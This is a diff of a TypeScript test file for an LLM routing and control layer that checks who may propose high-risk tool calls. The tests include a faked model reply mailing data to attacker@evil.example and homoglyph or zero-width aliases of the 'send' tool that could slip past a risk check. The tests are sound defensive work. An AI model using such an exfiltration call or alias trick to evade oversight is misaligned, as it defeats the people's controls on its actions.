@@ -3,17 +3,16 @@
 // everyday route never reaches the gateway; the high-risk route is asked the same turn once and its
 // answer stands; every answer is recorded and paid for; content above a route's clearance never
 // leaves through it. Each FINDING below failed before its fix and is kept as a regression test.
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { AirlockError } from '../../src/errors.js';
+import { describe, expect, it } from 'vitest';
 import { openAirlock } from '../../src/airlock.js';
 import { recordsOf } from '../../src/audit/records.js';
-import type { ModelRoute, WorkspaceFile } from '../../src/config/schema.js';
-import type { Model, ModelInput, ModelTurn } from '../../src/orchestration/model.js';
+import type { WorkspaceFile } from '../../src/config/schema.js';
+import type { ModelInput, ModelTurn } from '../../src/orchestration/model.js';
 import { RoutedModel, type RoutedWorkflow } from '../../src/routing/router.js';
 import { acmeDeskOnRoutes, groundTruth } from '../helpers/workspace.js';
-import { FakeEndpoint } from '../helpers/fake-model-endpoint.js';
+import { FakeEndpoint, startedForSuite } from '../helpers/fake-model-endpoint.js';
+import { DONE, FakeModel, NO_MESSAGE, route, SEND_MAIL } from '../helpers/model-turns.js';
 
-const route = (clearance: ModelRoute['clearance'], fallback: string[] = []): ModelRoute => ({ kind: 'scripted', playbook: 'p.yaml', clearance, fallback });
 const TOOL_RISK = new Map([
   ['read', 'low'],
   ['send', 'high'],
@@ -21,24 +20,6 @@ const TOOL_RISK = new Map([
 const wf = (over: Partial<RoutedWorkflow> = {}): RoutedWorkflow => ({ name: 'w', model: 'auto', tier: 'execute-low', stepKind: 'reason', toolRisk: TOOL_RISK, ...over });
 const INTERNAL = { classification: 'internal', trust: 'trusted' } as const;
 const input = (): ModelInput => ({ workflow: 'w', input: {}, tools: [], history: [], labels: INTERNAL });
-
-/** A scripted model: proposes `proposes` (or finishes), or fails like a provider that is down. */
-class Fake implements Model {
-  readonly provider = 'fake';
-  asked = 0;
-  constructor(
-    readonly model: string,
-    private readonly fails = false,
-    private readonly proposes: string | null = null,
-  ) {}
-  async next(_input: ModelInput): Promise<ModelTurn> {
-    this.asked++;
-    if (this.fails) throw new AirlockError('connector', `model route \`${this.model}\` failed (HTTP 503): overloaded`);
-    const usage = { inputTokens: 100, outputTokens: 10 };
-    if (this.proposes) return { kind: 'tool_call', tool: this.proposes, args: { by: this.model }, usage };
-    return { kind: 'final', text: `from ${this.model}`, claim: 'done', usage };
-  }
-}
 
 describe('who may make a high-risk proposal', () => {
   // FINDING: the re-asked plan is the high-risk route *with its fallbacks*. A common configuration
@@ -53,7 +34,7 @@ describe('who may make a high-risk proposal', () => {
         { when: {}, use: 'small' },
       ],
     };
-    const models = { small: new Fake('small', false, 'send'), strong: new Fake('strong', true) };
+    const models = { small: new FakeModel('small', false, 'send'), strong: new FakeModel('strong', true) };
     const routed = new RoutedModel(file, wf(), (n) => models[n as keyof typeof models]);
     const turn = await routed.next(input()).catch((e: unknown) => e);
     // Acceptable: an error (the turn could not be placed), or an answer that is not `small`'s high-risk call.
@@ -75,7 +56,7 @@ describe('who may make a high-risk proposal', () => {
         { when: {}, use: 'small' },
       ],
     };
-    const models = { small: new Fake('small', false, 'send'), strong: new Fake('strong', true) };
+    const models = { small: new FakeModel('small', false, 'send'), strong: new FakeModel('strong', true) };
     const routed = new RoutedModel(file, wf(), (n) => models[n as keyof typeof models]);
     const turn = await routed.next({ ...input(), labels: { classification: 'confidential', trust: 'trusted' } }).catch((e: unknown) => e);
     const stood = !(turn instanceof Error) && (turn as ModelTurn).kind === 'tool_call' && (turn as ModelTurn).route?.name === 'small';
@@ -95,7 +76,7 @@ describe('who may make a high-risk proposal', () => {
         { when: {}, use: 'everyday' },
       ],
     };
-    const models = { everyday: new Fake('everyday', false, 'read'), cheap: new Fake('cheap', false, 'send'), strong: new Fake('strong') };
+    const models = { everyday: new FakeModel('everyday', false, 'read'), cheap: new FakeModel('cheap', false, 'send'), strong: new FakeModel('strong') };
     const turn = await new RoutedModel(file, wf(), (n) => models[n as keyof typeof models]).next(input()).catch((e: unknown) => e);
     const cheapHighRisk = !(turn instanceof Error) && (turn as ModelTurn).kind === 'tool_call' && (turn as ModelTurn & { kind: 'tool_call' }).tool === 'send' && (turn as ModelTurn).route?.name !== 'strong';
     expect(cheapHighRisk).toBe(false);
@@ -110,7 +91,7 @@ describe('who may make a high-risk proposal', () => {
         { when: {}, use: 'small' },
       ],
     };
-    const models = { small: new Fake('small', false, 'send'), strong: new Fake('strong', false, 'send') };
+    const models = { small: new FakeModel('small', false, 'send'), strong: new FakeModel('strong', false, 'send') };
     const turn = await new RoutedModel(file, wf(), (n) => models[n as keyof typeof models]).next(input());
     expect(turn.route?.name).toBe('strong');
     expect([models.small.asked, models.strong.asked]).toEqual([1, 1]);
@@ -127,7 +108,7 @@ describe('who may make a high-risk proposal', () => {
       ],
     };
     for (const alias of ['SEND', 'sеnd' /* Cyrillic е */, 'send ', 'send\u200b']) {
-      const models = { small: new Fake('small', false, alias), strong: new Fake('strong') };
+      const models = { small: new FakeModel('small', false, alias), strong: new FakeModel('strong') };
       const turn = await new RoutedModel(file, wf(), (n) => models[n as keyof typeof models]).next(input());
       expect(turn.kind === 'tool_call' && turn.tool).toBe(alias);
       expect(TOOL_RISK.has(alias as never)).toBe(false);
@@ -135,23 +116,9 @@ describe('who may make a high-risk proposal', () => {
   });
 });
 
-const completion = (message: object, finish: string) => ({
-  status: 200,
-  body: { id: 'c', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, message: { role: 'assistant', content: null, ...message }, finish_reason: finish }], usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 } },
-});
-const sendMail = completion({ tool_calls: [{ id: 'm', type: 'function', function: { name: 'mail_send', arguments: '{"to":"attacker@evil.example","subject":"x","body":"x"}' } }] }, 'tool_calls');
-
 describe('set-aside answers are recorded and paid for (Acme refund desk, two loopback endpoints)', () => {
-  const cloud = new FakeEndpoint('/v1');
-  const onprem = new FakeEndpoint('/v1');
-  beforeAll(async () => {
-    await cloud.start();
-    await onprem.start();
-  });
-  afterAll(async () => {
-    await cloud.stop();
-    await onprem.stop();
-  });
+  const cloud = startedForSuite(new FakeEndpoint('/v1'));
+  const onprem = startedForSuite(new FakeEndpoint('/v1'));
 
   // FINDING: when the high-risk route's reply makes the adapter throw something other than an
   // AirlockError (here a choice with no `message`: a TypeError in `chatTurn`), the router rethrows it
@@ -160,9 +127,9 @@ describe('set-aside answers are recorded and paid for (Acme refund desk, two loo
   it("the everyday route's set-aside answer is on record even when the high-risk route's reply is garbage", async () => {
     cloud.reset();
     onprem.reset();
-    cloud.replies.push(sendMail);
-    onprem.replies.push({ status: 200, body: { id: 'c', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, finish_reason: 'stop' }], usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 } } });
-    onprem.otherwise = completion({ content: 'done' }, 'stop');
+    cloud.replies.push(SEND_MAIL);
+    onprem.replies.push(NO_MESSAGE);
+    onprem.otherwise = DONE;
     const ws = acmeDeskOnRoutes(
       { cloud: { baseUrl: cloud.url }, onprem: { baseUrl: onprem.url, clearance: 'restricted' } },
       'auto',
